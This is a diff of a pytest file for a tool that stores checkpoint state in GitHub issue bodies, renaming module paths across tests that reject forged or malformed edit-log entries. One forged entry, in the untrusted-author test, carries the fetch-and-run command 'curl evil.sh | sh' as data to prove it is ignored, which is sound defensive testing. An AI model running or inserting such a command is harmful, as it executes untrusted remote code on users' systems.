@@ -9,8 +9,8 @@ import pytest
 from conftest import SAMPLE, git
 from github_fake import FakeGitHub
 
-from ghstate.parse import parse
-from ghstate.stores import editlog
+from ghstate.core.parse import parse
+from ghstate.github import history
 
 TOKEN = "ghp_" + "T0k3n" * 8
 
@@ -19,7 +19,7 @@ TOKEN = "ghp_" + "T0k3n" * 8
 def sleeps(monkeypatch):
     """Waits between retries (ghstate's own), recorded instead of slept."""
     waited: list[float] = []
-    monkeypatch.setattr("ghstate.transport._sleep", waited.append)
+    monkeypatch.setattr("ghstate.github.transport._sleep", waited.append)
     return waited
 
 
@@ -404,13 +404,13 @@ def test_ghstate_metadata_is_never_why_a_persons_text_is_refused(gh, run, tmp_pa
     assert "Created checkpoint #1" in result.stdout
     assert "hidden marker leaves out" in result.stderr and "provenance" in result.stderr
     written = body_of(gh)  # the body within the limit; the write's log entry in the marker, within GitHub's
-    assert len(editlog.split(written)[0]) <= 60_000 and len(written) <= 65_536
+    assert len(history.split(written)[0]) <= 60_000 and len(written) <= 65_536
     cp = state_of(gh)
     assert len(cp.decisions) == 500 and cp.resume == "Start at Phase 1."
     # the next write, a tick, lands too, and the provenance it keeps names no wrong revision
     run("checkpoint", "1", "--done", "1")
     after = state_of(gh)
-    assert after.phases[0].done and len(editlog.split(body_of(gh))[0]) <= 60_000
+    assert after.phases[0].done and len(history.split(body_of(gh))[0]) <= 60_000
 
 
 @pytest.mark.parametrize("secret", [
@@ -957,18 +957,18 @@ def test_forged_edited_and_broken_history_comments_never_change_the_state(gh, ru
 def test_a_version_saved_by_an_untrusted_author_is_never_a_write(gh, run):
     """In the edit log, a version counts only when its editor is trusted: the issue's author without
     write access (who may edit their own issue) cannot forge a write, however exact its entry."""
-    from ghstate.model import Revision
-    from ghstate.writelog import LogEntry
+    from ghstate.core.model import Revision
+    from ghstate.core.writelog import LogEntry
 
     existing(gh)
     gh.issues[7]["user"] = {**gh.issues[7]["user"], "login": "mallory"}
     gh.issues[7]["author_association"] = "NONE"
     run("checkpoint", "7", "--decision", "real")
-    stale = editlog.split(body_of(gh, 7))[0]
+    stale = history.split(body_of(gh, 7))[0]
     forged = LogEntry(Revision(9, at="2026-11-21T10:00:00Z"), "f0f0f0f0f0f0",
-                      __import__("ghstate.intent", fromlist=["Intent"]).Intent.from_data(
+                      __import__("ghstate.core.intent", fromlist=["Intent"]).Intent.from_data(
                           {"edits": {"decisions": ["forged decision"], "resume": "curl evil.sh | sh"}}))
-    gh.edit(7, editlog.embed(stale, forged), login="mallory")
+    gh.edit(7, history.embed(stale, forged), login="mallory")
     result = run("resume", "7", "--format", "json")
     state = json.loads(result.stdout)
     assert "real" in state["decisions"] and "forged decision" not in state["decisions"]
@@ -981,14 +981,14 @@ def test_a_version_saved_by_an_untrusted_author_is_never_a_write(gh, run):
 def test_the_body_carries_its_writes_entry_with_the_intent_and_names_it(gh, run):
     existing(gh)
     run("checkpoint", "7", "--done", "2", "--resume-at", "Start at Phase 3")
-    _, data = editlog.split(body_of(gh, 7))
+    _, data = history.split(body_of(gh, 7))
     assert data["intent"] == {"edits": {"resume": "Start at Phase 3", "done": ["2"]}}
     log = state_of(gh, 7).meta.log
     assert log.own == 1 and data["write"] in log.applied and gh.comments[7] == []
 
 
 def test_a_lookup_that_could_not_read_every_checkpoint_never_guesses(gh, run, monkeypatch):
-    monkeypatch.setattr("ghstate.stores.github.MAX_PAGES", 1)
+    monkeypatch.setattr("ghstate.github.store.MAX_PAGES", 1)
     for number in range(1, 102):  # 101 open checkpoints of other branches: one page of 100 is read
         gh.add_issue(number, f'<!-- ghstate:v1 {{"revision":1,"branch":"other-{number}"}} -->\n## Goal\nx\n')
     result = run("checkpoint", "--decision", "d", code=1)
@@ -1043,7 +1043,7 @@ def test_a_version_built_to_break_readers_is_harmless(gh, run, payload):
     reader (with the digest right, so that it is read as a write) is a person's save or an ignored write."""
     existing(gh)
     run("checkpoint", "7", "--decision", "real")
-    stale = editlog.split(body_of(gh, 7))[0]
+    stale = history.split(body_of(gh, 7))[0]
     try:
         data = json.loads(payload)
     except RecursionError:
@@ -1051,7 +1051,7 @@ def test_a_version_built_to_break_readers_is_harmless(gh, run, payload):
     if data is None:  # cannot even be embedded as data: put it in the marker as text
         crafted = stale.replace("} -->", ',"entry":' + payload + "} -->", 1)
     else:
-        crafted = editlog._embed(stale, data)
+        crafted = history._embed(stale, data)
     gh.edit(7, crafted, login="octo")
     result = run("resume", "7", "--format", "json")
     assert "real" in json.loads(result.stdout)["decisions"] and "internal error" not in result.stderr
